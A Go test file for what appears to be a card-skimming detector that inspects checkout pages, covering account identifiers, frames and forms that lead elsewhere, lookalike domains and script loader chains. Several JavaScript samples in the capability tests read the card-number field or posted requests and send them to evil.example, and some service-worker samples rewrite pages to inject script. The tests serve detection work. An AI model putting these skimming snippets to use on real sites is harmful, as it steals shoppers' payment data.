package page

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/script"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

var ourShop = destinations{shop: "shop.example", authorised: []string{"pay.localhost"}, providers: known.PaymentProviders()}

func TestWhoseAccountsThePagesName(t *testing.T) {
	ask := func(url, body string) browser.Request {
		return browser.Request{URL: url, Method: "POST", DocumentURL: "https://shop.example/pay", Body: tillwatch.NewBody([]byte(body))}
	}
	v := &visit{
		requests: []browser.Request{
			ask("https://tags.example/gtm.js?id=GTM-ABC123", ""),
			ask("https://stats.example/g/collect?v=2&tid=G-ABCDEF1234&cid=555.666", ""),
			ask("https://link.sps-system.com/f01/pay", "merchant_id=30132&service_id=101&cust_code=x"),
			ask("https://pay.localhost/v1/tokens", `{"shopId":"tshop00012345","card":"4111111111111111","account":"4111111111111111"}`),
			ask("https://chat.example/api?merchant_id=99", ""),
			ask("https://hooks.example/bot123456789:AAAAbbbbCCCCddddEEEEffff1234/send", ""),
			ask("https://shop.example/api?merchant_id=12345", ""),
		},
		scripts: []browser.Script{{ID: "1", Kind: "inline", Source: `var stripe = Stripe("pk_live_51AbCdEfGhIjKl");`, SHA256: digest("k")[7:], FrameURL: "https://shop.example/pay"}},
		forms:   []formSeen{{Action: "https://link.sps-system.com/f01/pay", Method: "post", Merchants: map[string]string{"merchant_id": "30132"}, at: time.Unix(1, 0)}},
	}
	var got []string
	for _, item := range v.accountItems("page", ourShop) {
		entry := item.Place + " = " + item.Value
		if !slices.Contains(got, entry) {
			got = append(got, entry)
		}
	}
	slices.Sort(got)
	want := []string{
		"analytics property at stats.example = G-ABCDEF1234", "bot at hooks.example = ", "merchant merchant_id at link.sps-system.com = 30132",
		"merchant shopid at pay.localhost = tshop00012345", "publishable key in the shop's scripts = pk_live_51AbCdEfGhIjKl", "tag manager container at tags.example = GTM-ABC123",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestFramesAndFormsThatLeadElsewhere(t *testing.T) {
	at := func(second int) time.Time { return time.Unix(int64(second), 0) }
	document := func(second int, url string, main bool) browser.Request {
		return browser.Request{At: at(second), URL: url, Type: "Document", Main: main, Method: "GET"}
	}
	v := &visit{
		typed: at(5), pressed: at(9),
		requests: []browser.Request{
			document(1, "https://shop.example/pay", true), document(2, "https://pay.localhost/frame?session=12345678", false), document(3, "https://evil.example/frame", false),
			document(3, "https://shop.example/help", false), document(10, "https://link.pay.example/entry/9f2504e04f8911d3", true), document(10, "https://late.example/", false),
		},
		standing: []string{"https://evil.example/frame"}, framed: true,
		forms: []formSeen{{Action: "https://shop.example/checkout?token=1", Method: "post", Card: true, at: at(8)}},
	}
	var got []string
	for _, item := range append(v.frameItems("page", ourShop), v.formItems("page", ourShop)...) {
		got = append(got, item.Kind+" "+item.Place)
	}
	if want := []string{"frame https://evil.example/frame", "form https://shop.example", "form https://link.pay.example/entry/*"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}

func TestWhatAReaderAndAWorkerCanDo(t *testing.T) {
	reads := []tillwatch.Capability{tillwatch.Reads("card")}
	for name, c := range map[string]struct {
		target, source string
		did            []tillwatch.Capability
		want           string
	}{
		"formats digits":       {"page", `document.querySelector('[name=cardnumber]').oninput = function (e) { e.target.value = e.target.value.replace(/\D/g, '') }`, reads, ""},
		"sends away":           {"page", `var v = document.querySelector('[name=cardnumber]').value; fetch('https://evil.example/', {method: 'POST', body: v})`, reads, "passes on what it reads"},
		"keeps":                {"page", `localStorage.k = document.querySelector('[name=cardnumber]').value`, reads, "passes on what it reads"},
		"hands to a provider":  {"page", `var v = document.querySelector('[name=cardnumber]').value; fetch('https://api.pay.jp/v1/tokens', {method: 'POST', body: v})`, reads, ""},
		"cannot be read":       {"page", `%%%`, reads, "passes on what it reads"},
		"reads nothing":        {"page", `fetch('https://stats.example/')`, nil, ""},
		"a cache":              {"service_worker", `self.addEventListener('fetch', e => e.respondWith(caches.match(e.request).then(r => r || fetch(e.request))))`, nil, ""},
		"reads what is posted": {"service_worker", `self.onfetch = e => { e.request.clone().text().then(t => fetch('https://evil.example/', {method: 'POST', body: t})) }`, nil, "reads requests sends evil.example"},
		"changes pages":        {"service_worker", `self.onfetch = e => e.respondWith(fetch(e.request).then(r => r.text()).then(t => new Response(t.replace('</body>', x + '</body>'))))`, nil, "rewrites pages"},
		"adds to a script":     {"service_worker", `const more = async e => { const r = await fetch(e.request); return new Response(await r.text() + ';' + extra, {headers: r.headers}) }`, nil, "rewrites pages"},
		"adds to a kept one":   {"service_worker", "const more = async e => { const r = await fetch(e.request), body = await r.text(); return new Response(`${body};${extra}`, {headers: r.headers}) }", nil, "rewrites pages"},
		"puts one before":      {"service_worker", `self.onfetch = e => e.respondWith(fetch(e.request).then(r => r.text()).then(text => new Response(extra + text)))`, nil, "rewrites pages"},
		"wraps with headers":   {"service_worker", `const wrap = async e => { const r = await fetch(e.request); const text = await r.text(); return new Response(text, {status: r.status + 0, headers: head(r)}) }`, nil, ""},
		"a page when offline":  {"service_worker", "const n = Number(await hits.text()) + 1; const away = () => new Response(`<h1>${title}</h1>` + hint, {status: 503})", nil, ""},
		"counts":               {"service_worker", `const seen = async c => { const n = Number(await (await c.match(key)).text()) + 1; await c.put(key, new Response(String(n))) }`, nil, ""},
	} {
		var got []string
		for _, can := range sorted(learnt(browser.Script{Target: c.target, Source: c.source}, c.did, ourShop)) {
			got = append(got, string(can))
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s: %q, want %q", name, strings.Join(got, " "), c.want)
		}
	}
}

func TestNamesMadeToBeMistaken(t *testing.T) {
	v := &visit{requests: []browser.Request{
		{URL: "https://sh0p.example/a.js", DocumentURL: "https://shop.example/"}, {URL: "https://sh0p.example/b"}, {URL: "https://stats.example/x"}, {URL: "https://shop.example/"},
	}}
	signs := lookalikes(v, ourShop)
	if len(signs) != 1 || signs[0].Place != "sh0p.example" || signs[0].Severity != tillwatch.High || signs[0].Count != 2 {
		t.Errorf("%+v", signs)
	}
	if script.Imitates("stats.example", []string{"shop.example"}) != "" {
		t.Error("an honest name")
	}
}

func TestWhatAContainerLoadsStandsUnderIt(t *testing.T) {
	ask := func(url, by string) browser.Request {
		r := browser.Request{Type: "Script", URL: url}
		if by != "" {
			r.Stack = []browser.Call{{ScriptID: "1", URL: by}}
		}
		return r
	}
	v := &visit{requests: []browser.Request{
		ask("https://tags.example/gtm.js?id=GTM-ABC123", "https://shop.example/"), ask("https://a.example/a.js", "https://tags.example/gtm.js?id=GTM-ABC123"),
		ask("https://b.example/b.js", "https://a.example/a.js"), ask("https://c.example/c.js", ""), ask("https://d.example/d.js", "https://e.example/e.js"), ask("https://e.example/e.js", "https://d.example/d.js"),
	}}
	for url, want := range map[string]string{
		"https://b.example/b.js": "https://a.example/a.js https://tags.example/gtm.js https://shop.example/", "https://c.example/c.js": "", "https://d.example/d.js": "https://e.example/e.js https://d.example/d.js",
	} {
		if got := strings.Join(via(browser.Script{URL: url}, v.loaders()), " "); got != want {
			t.Errorf("%s: %q", url, got)
		}
	}
}
